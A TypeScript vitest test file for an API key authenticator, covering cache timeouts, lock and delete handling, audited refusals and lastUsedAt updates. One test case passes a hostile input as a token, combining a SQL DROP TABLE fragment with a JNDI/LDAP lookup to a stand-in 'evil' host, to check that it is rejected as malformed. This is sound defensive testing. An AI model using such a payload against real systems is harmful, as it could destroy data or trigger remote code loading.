// ApiKeyAuthenticator with a fake clock: cache lifetimes, lock and delete taking effect, refusals audited, lastUsedAt.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { LocalApiKeyStore, LocalAuditLog } from '#shared/adapters/local/apikey-store';
import {
  ApiKeyAuthenticator,
  ApiKeyService,
  MAX_NEGATIVE_CACHE_ENTRIES,
  NEGATIVE_CACHE_MS,
  ScryptKeyHasher,
} from '#shared/apikeys/index';
import type { KeyHasher } from '#shared/apikeys/index';

let dir: string;
let store: LocalApiKeyStore;
let audit: LocalAuditLog;
let nowMs: number;
let hasher: KeyHasher;
let service: ApiKeyService;
let authenticator: ApiKeyAuthenticator;

beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'kfsensor-auth-unit-'));
  store = new LocalApiKeyStore(dir);
  audit = new LocalAuditLog(dir);
  nowMs = Date.parse('2026-03-01T12:00:00.000Z');
  hasher = new ScryptKeyHasher({ N: 1024 });
  service = new ApiKeyService({ store, audit, hasher, clock: () => new Date(nowMs) });
  authenticator = new ApiKeyAuthenticator({ store, audit, hasher, clock: () => nowMs });
});

afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function createKey(keyId: string, reauthenticationTimeoutSeconds = 60): Promise<string> {
  return (await service.create('admin', { keyId, roles: ['Auditor'], reauthenticationTimeoutSeconds }))
    .secret;
}

async function refusals(): Promise<Array<[string | null, string | undefined]>> {
  const { items } = await service.listAudit({ limit: 100 });
  return items.filter((r) => r.action === 'authenticate').map((r) => [r.targetKeyId, r.reason]);
}

describe('ApiKeyAuthenticator', () => {
  it('accepts a valid token with its roles, permissions and cache horizon', async () => {
    const token = await createKey('reader', 30);
    expect(await authenticator.authenticate(token)).toEqual({
      ok: true,
      keyId: 'reader',
      roles: ['Auditor'],
      permissions: [
        'apikeys:read',
        'scans:read',
        'schedules:read',
        'findings:read',
        'license:read',
        'audit:read',
      ],
      cachedUntil: nowMs + 30_000,
    });
  });

  it.each<[string, (token: string) => string | undefined, string, string | null]>([
    ['a missing token', () => undefined, 'missing', null],
    ['an empty token', () => '', 'missing', null],
    ['a token without the prefix', (t) => t.slice(5), 'malformed', null],
    ['an oversized token', (t) => t + 'x'.repeat(10_000), 'malformed', null],
    ['an injection string', () => '"; DROP TABLE keys; -- ${jndi:ldap://evil/a}', 'malformed', null],
    ['a token for an unknown key', () => `kfsk_stranger_${'D'.repeat(43)}`, 'unknown', 'stranger'],
    ['a wrong secret', () => `kfsk_victim_${'E'.repeat(43)}`, 'mismatch', 'victim'],
  ])('refuses %s and audits the reason without the token', async (_name, make, reason, keyId) => {
    const token = make(await createKey('victim'));
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason });
    expect(await refusals()).toEqual([[keyId, reason]]);
    const { items } = await service.listAudit({ limit: 100 });
    if (token) expect(JSON.stringify(items)).not.toContain(token);
  });

  it('refuses a locked key, and accepts it again once unlocked', async () => {
    const token = await createKey('lockable', 0);
    await service.lock('admin', ['lockable']);
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'locked' });
    await service.unlock('admin', ['lockable']);
    nowMs += NEGATIVE_CACHE_MS;
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    expect(await refusals()).toEqual([['lockable', 'locked']]);
  });

  it('keeps accepting a cached key until its timeout, then sees the lock', async () => {
    const token = await createKey('cached', 60);
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    await service.lock('admin', ['cached']);
    nowMs += 59_999;
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    nowMs += 1;
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'locked' });
  });

  it('sees a lock at once when the timeout is 0', async () => {
    const token = await createKey('uncached', 0);
    const first = await authenticator.authenticate(token);
    expect(first).toMatchObject({ ok: true, cachedUntil: nowMs });
    await service.lock('admin', ['uncached']);
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'locked' });
  });

  it('refuses a deleted key after the timeout', async () => {
    const token = await createKey('doomed', 10);
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    await service.delete('admin', ['doomed']);
    nowMs += 10_000;
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'unknown' });
  });

  it('verifies the hash once per timeout, not per request', async () => {
    const token = await createKey('hot', 60);
    const verify = vi.spyOn(hasher, 'verify');
    const get = vi.spyOn(store, 'get');
    for (let i = 0; i < 100; i++) expect((await authenticator.authenticate(token)).ok).toBe(true);
    expect(verify).toHaveBeenCalledTimes(1);
    expect(get).toHaveBeenCalledTimes(1);
    nowMs += 60_000;
    await authenticator.authenticate(token);
    expect(verify).toHaveBeenCalledTimes(2);
  });

  it('remembers a refusal for a few seconds at most, and still audits each one', async () => {
    const token = `kfsk_latecomer_${'F'.repeat(43)}`;
    const get = vi.spyOn(store, 'get');
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'unknown' });
    expect(await authenticator.authenticate(token)).toEqual({ ok: false, reason: 'unknown' });
    expect(get).toHaveBeenCalledTimes(1);
    await service.import('admin', { key: token, roles: ['Auditor'] });
    nowMs += NEGATIVE_CACHE_MS;
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    expect(await refusals()).toEqual([
      ['latecomer', 'unknown'],
      ['latecomer', 'unknown'],
    ]);
  });

  it('hands out copies, so a caller editing its decision changes nothing for later requests', async () => {
    const token = await createKey('shared', 60);
    const first = await authenticator.authenticate(token);
    if (!first.ok) throw new Error('expected acceptance');
    first.roles.push('Administrator');
    first.permissions.push('apikeys:write');
    const again = await authenticator.authenticate(token);
    expect(again.ok && again.roles).toEqual(['Auditor']);
    expect(again.ok && again.permissions.includes('apikeys:write')).toBe(false);
  });

  it('keeps a cached acceptance through a flood of bad tokens', async () => {
    const token = await createKey('steady', 60);
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    const verify = vi.spyOn(hasher, 'verify');
    for (let i = 0; i < MAX_NEGATIVE_CACHE_ENTRIES + 50; i++) {
      await authenticator.authenticate(`kfsk_flood-${i}_${'G'.repeat(43)}`);
    }
    expect((await authenticator.authenticate(token)).ok).toBe(true);
    expect(verify).not.toHaveBeenCalled();
  });

  it('writes lastUsedAt at most once a minute per key', async () => {
    const token = await createKey('busy', 0);
    const recordUse = vi.spyOn(store, 'recordUse');
    const start = nowMs;
    for (let second = 0; second < 120; second += 10) {
      nowMs += 10_000;
      expect((await authenticator.authenticate(token)).ok).toBe(true);
    }
    expect(recordUse).toHaveBeenCalledTimes(2);
    expect((await service.get('busy')).lastUsedAt).toBe(new Date(start + 70_000).toISOString());
  });
});
